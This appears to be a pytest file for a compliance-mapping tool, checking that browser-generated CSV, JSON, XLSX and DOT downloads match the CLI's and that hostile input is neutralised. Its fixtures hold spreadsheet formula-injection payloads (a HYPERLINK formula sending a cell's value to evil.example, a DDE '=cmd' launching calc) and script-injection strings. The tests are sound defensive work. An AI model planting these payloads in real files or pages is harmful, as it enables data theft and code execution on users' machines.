"""The browser mapper's downloads are ``ambit map``'s files: the same bytes for the checklist's CSV
and JSON, the statement of applicability's CSV and JSON and the diagram's DOT source; the same
sheets, cells (values, formulas, links) and properties for the checklist's XLSX.

exportfiles.js runs in Debian's Chromium on the data the build publishes (the engine's and the
exports'), over the worked examples, the test maps, generated maps and a map with hostile names;
the Python side is :func:`generator.systemmap.outputs.map_files`, what ``ambit map`` writes.
"""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml

from generator.model import Catalogue
from generator.systemmap.browser import render_mapper_data
from generator.systemmap.browser_exports import render_exports_data
from generator.systemmap.diagram import to_dot
from generator.systemmap.load import build_map
from generator.systemmap.outputs import map_files, map_outputs
from tests.systemmap.conftest import EXAMPLES, REPO, script_page
from tests.systemmap.test_browser_engine import generated_maps

ASSETS = REPO / "site_overrides" / "assets"
SCRIPTS = [
    ASSETS / "mapper" / "engine.js",
    ASSETS / "mapper" / "tracker.js",
    ASSETS / "mapper" / "exportfiles.js",
    ASSETS / "xlsx.js",
]
MAPS = [*sorted(EXAMPLES.glob("*.yml")), *sorted((Path(__file__).parent / "maps").glob("*.yml"))]
TEXT_FILES = ("checklist.csv", "checklist.json", "applicability.csv", "applicability.json")

HOSTILE = {
    "system": '=HYPERLINK("https://evil.example/?x="&A1,"Click") <script>alert(1)</script>',
    "sector": "healthcare",
    "components": [
        {
            "id": "ehr",
            "type": "operational-database",
            "exposure": "internet",
            "name": '"><script>alert(2)</script> \\ back\\slash',
            "data_kinds": ["health"],
        },
        {"id": "web", "type": "web-app", "exposure": "internet", "runs_on": ["ehr"]},
    ],
    "flows": [
        {"from": "web", "to": "ehr", "data": '=cmd|" /C calc"!A0 <b>"quoted"</b>', "lifecycle": "inference"},
        {"from": "ehr", "to": "web", "data": "@SUM(1+1) +tab\tand\rcr -minus", "lifecycle": "output"},
    ],
    "people": [{"role": "-2+3 <img src=x onerror=alert(3)>", "uses": ["web"]}],
}

# The workbook crosses to Python as base64: a million-number array took Playwright seconds per map.
JS_FILES = """([data, ex, maps, answers]) => maps.map(raw => {
  const base64 = bytes => {
    let text = "";
    for (let i = 0; i < bytes.length; i += 0x8000) {
      text += String.fromCharCode.apply(null, bytes.subarray(i, i + 0x8000));
    }
    return btoa(text);
  };
  const F = window.AmbitMapperExportFiles;
  const ctx = F.context(data, ex, raw, answers);
  const book = F.checklistWorkbook(ctx);
  return {
    "checklist.csv": F.checklistCsv(ctx), "checklist.json": F.checklistJson(ctx),
    "applicability.csv": F.statementCsv(ctx), "applicability.json": F.statementJson(ctx),
    "diagram.dot": F.diagramDot(ctx), xlsx: base64(window.AmbitXlsx.write(book.sheets, book.props)),
  };
})"""


@pytest.fixture(scope="module")
def page(browser: Any) -> Iterator[Any]:
    with script_page(browser, "exports", *SCRIPTS) as page:
        yield page


def browser_files(page: Any, cat: Catalogue, maps: list[dict[str, Any]], answers: Any = None) -> list[dict[str, Any]]:
    data = json.loads(render_mapper_data(cat))
    exports = json.loads(render_exports_data(cat))
    result: list[dict[str, Any]] = page.evaluate(JS_FILES, [data, exports, maps, answers or {}])
    for files in result:
        files["xlsx"] = base64.b64decode(files["xlsx"])
    return result


def cli_files(cat: Catalogue, raw: dict[str, Any]) -> dict[str, bytes]:
    smap = build_map(raw)
    files = map_files(cat, smap, map_outputs(cat, smap, "<svg/>"), ("csv", "json", "xlsx"))
    files["diagram.dot"] = to_dot(cat, smap).encode("utf-8")
    return files


def cells(data: bytes) -> dict[str, Any]:
    """Every sheet's cells (value, or formula text, and link) in order, and the properties Ambit reads."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheets = {
        sheet.title: [
            [(c.value, c.hyperlink.target if c.hyperlink else None) for c in row] for row in sheet.iter_rows()
        ]
        for sheet in book.worksheets
    }
    p = book.properties
    props = (p.title, p.subject, p.keywords, p.creator, p.description, p.created)
    panes = {sheet.title: sheet.freeze_panes for sheet in book.worksheets}
    return {"sheets": sheets, "props": props, "panes": panes, "order": book.sheetnames}


def trimmed(sheet: list[list[Any]]) -> list[list[Any]]:
    """Rows without trailing empty cells (xlsxwriter writes blank formatted cells the browser leaves out)."""
    out = []
    for row in sheet:
        row = list(row)
        while row and row[-1] == (None, None):
            row.pop()
        out.append(row)
    while out and not out[-1]:
        out.pop()
    return out


def assert_same(js: dict[str, Any], cli: dict[str, bytes], name: str) -> None:
    for file in (*TEXT_FILES, "diagram.dot"):
        assert js[file].encode("utf-8") == cli[file], f"{name}: {file}"
    mine, theirs = cells(js["xlsx"]), cells(cli["checklist.xlsx"])
    assert mine["order"] == theirs["order"], name
    assert mine["props"] == theirs["props"], name
    assert mine["panes"] == theirs["panes"], name
    for title in theirs["order"]:
        assert trimmed(mine["sheets"][title]) == trimmed(theirs["sheets"][title]), f"{name}: sheet {title}"


@pytest.mark.parametrize("path", MAPS, ids=lambda p: p.stem)
def test_the_downloads_of_an_example_map_are_the_cli_files(page: Any, catalogue: Catalogue, path: Path) -> None:
    raw = yaml.safe_load(path.read_text("utf-8"))
    [js] = browser_files(page, catalogue, [raw])
    assert_same(js, cli_files(catalogue, raw), path.stem)


def test_the_downloads_of_generated_maps_are_the_cli_files(page: Any, catalogue: Catalogue) -> None:
    maps = generated_maps(catalogue, 8, seed=2026)
    for raw, js in zip(maps, browser_files(page, catalogue, maps), strict=True):
        assert_same(js, cli_files(catalogue, raw), raw["system"])


def hipaa_citing(files: dict[str, Any]) -> list[str]:
    """The controls whose references name HIPAA in a checklist.json (text or bytes)."""
    doc = json.loads(files["checklist.json"])
    return [c["id"] for c in doc["controls"] if "hipaa-security-rule" in c["references"]]


def test_a_map_of_another_sector_leaves_hipaa_out_in_both_engines_and_one_of_no_sector_keeps_it(
    page: Any, catalogue: Catalogue
) -> None:
    # The registry binds HIPAA to healthcare (its sectors, in the exports data both sides read).
    saas = yaml.safe_load((Path(__file__).parent / "maps" / "solo-saas.yml").read_text("utf-8"))
    unstated = {k: v for k, v in saas.items() if k != "sector"}
    js_saas, js_unstated = browser_files(page, catalogue, [saas, unstated])
    cli_saas, cli_unstated = cli_files(catalogue, saas), cli_files(catalogue, unstated)
    assert_same(js_saas, cli_saas, "saas")
    assert_same(js_unstated, cli_unstated, "no sector")
    # A saas map: no HIPAA IDs, HIPAA not among the JSON's frameworks, its CSV column kept, empty.
    assert hipaa_citing(js_saas) == []
    assert "hipaa-security-rule" not in [f["key"] for f in json.loads(js_saas["checklist.json"])["frameworks"]]
    rows = list(csv.DictReader(io.StringIO(js_saas["checklist.csv"], newline="")))
    assert "HIPAA" in rows[0] and not [r["id"] for r in rows if r["HIPAA"]]
    # The same map with no sector stated: the sector is unknown, so HIPAA is kept.
    assert hipaa_citing(js_unstated), "a map that states no sector keeps HIPAA"
    assert "hipaa-security-rule" in [f["key"] for f in json.loads(js_unstated["checklist.json"])["frameworks"]]


TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_texts(js: dict[str, Any]) -> list[tuple[str, str]]:
    """Every text cell of the CSV files and the workbook (but the Summary's own formulas), with where it is."""
    texts = [
        (name, cell)
        for name in ("checklist.csv", "applicability.csv")
        for row in csv.reader(io.StringIO(js[name], newline=""))
        for cell in row
    ]
    book = openpyxl.load_workbook(io.BytesIO(js["xlsx"]))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                if isinstance(c.value, str) and not (sheet.title == "Summary" and c.data_type == "f"):
                    texts.append((f"{sheet.title}!{c.coordinate}", c.value))
    return texts


HOSTILE_ANSWERS = {
    "owner": '=HYPERLINK("https://evil.example","x")',
    "notes": "+1 <script>alert(4)</script>",
    "due": "@2027",
    "status": "in-progress",
}


def test_hostile_names_and_answers_are_neutralised_in_every_download(page: Any, catalogue: Catalogue) -> None:
    [js] = browser_files(page, catalogue, [HOSTILE])
    assert_same(js, cli_files(catalogue, HOSTILE), "hostile")
    texts = spreadsheet_texts(js)
    assert ("Summary!A1", "'" + HOSTILE["system"] + ": checklist for this system") in texts, "the name is there"
    assert not [(where, t) for where, t in texts if t.startswith(TRIGGERS)], "no cell starts a formula"
    # DOT: a quote or backslash in a name cannot end the string and add attributes.
    assert '\\"><script>alert(2)</script> \\\\ back\\\\slash' in js["diagram.dot"]
    assert 'label="=cmd|\\" /C calc\\"!A0 <b>\\"quoted\\"</b>"' in js["diagram.dot"].replace("\\n", " ")

    first = json.loads(js["checklist.json"])["controls"][0]["id"]
    [mine] = browser_files(page, catalogue, [HOSTILE], {first: HOSTILE_ANSWERS})
    texts = spreadsheet_texts(mine)
    for value in ('=HYPERLINK("https://evil.example","x")', "+1 <script>alert(4)</script>", "@2027"):
        assert ("checklist.csv", "'" + value) in texts
        assert any(where.startswith("Checklist!") and t == "'" + value for where, t in texts), value
    assert not [(where, t) for where, t in texts if t.startswith(TRIGGERS)]


def test_the_answers_kept_in_the_browser_fill_the_checklist_columns(page: Any, catalogue: Catalogue) -> None:
    raw = yaml.safe_load((EXAMPLES / "logistics-route-optimiser.yml").read_text("utf-8"))
    cli = cli_files(catalogue, raw)
    ids = [r["id"] for r in csv.DictReader(io.StringIO(cli["checklist.csv"].decode("utf-8"), newline=""))]
    component = json.loads(cli["checklist.json"])["controls"][1]["applies_to_ids"][0]
    answers = {
        ids[0]: {"status": "implemented", "owner": "Ana", "due": "2027-01-31", "notes": "done, see ticket 12"},
        ids[1]: {"components": {component: "risk-accepted"}},
    }
    [js] = browser_files(page, catalogue, [raw], answers)
    rows = list(csv.DictReader(io.StringIO(js["checklist.csv"], newline="")))
    theirs = list(csv.DictReader(io.StringIO(cli["checklist.csv"].decode("utf-8"), newline="")))
    answer_columns = ("status", "owner", "due_date", "notes")
    assert [rows[0][c] for c in answer_columns] == ["implemented", "Ana", "2027-01-31", "done, see ticket 12"]
    for mine, cli_row in zip(rows, theirs, strict=True):  # every other cell as the CLI writes it
        assert {k: v for k, v in mine.items() if k not in answer_columns or mine["id"] != ids[0]} == {
            k: v for k, v in cli_row.items() if k not in answer_columns or mine["id"] != ids[0]
        }
    book = openpyxl.load_workbook(io.BytesIO(js["xlsx"]))
    heads = [c.value for c in book["Checklist"][1]]
    row = {h: c.value for h, c in zip(heads, book["Checklist"][2], strict=True)}
    assert (row["Status"], row["Owner"], row["Due date"], row["Notes"]) == (
        "implemented",
        "Ana",
        "2027-01-31",
        "done, see ticket 12",
    )
    by_component = [[c.value for c in r] for r in book["By component"].iter_rows(min_row=2)]
    assert [r[3] for r in by_component if r[0] == ids[1] and r[2].startswith(component + " ")] == ["risk accepted"]
    summary = [[c.value for c in r] for r in book["Summary"].iter_rows()]
    total = summary[-1]
    assert total[0] == "Total" and str(total[3]).startswith("=SUM(")
    # The JSON is data about the controls (as ambit map's): the answers are not in it.
    assert js["checklist.json"].encode("utf-8") == cli["checklist.json"]
